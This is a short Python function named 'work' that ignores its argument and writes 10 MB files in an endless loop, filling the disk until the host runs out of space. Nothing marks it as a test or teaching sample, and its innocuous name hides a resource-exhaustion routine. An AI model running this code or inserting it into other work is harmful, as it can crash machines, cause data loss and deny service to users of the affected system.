def work(x):
    number = 0
    while True:
        with open(f"file{number}", "wb") as file:
            file.write(b"x" * 10_000_000)
        number += 1
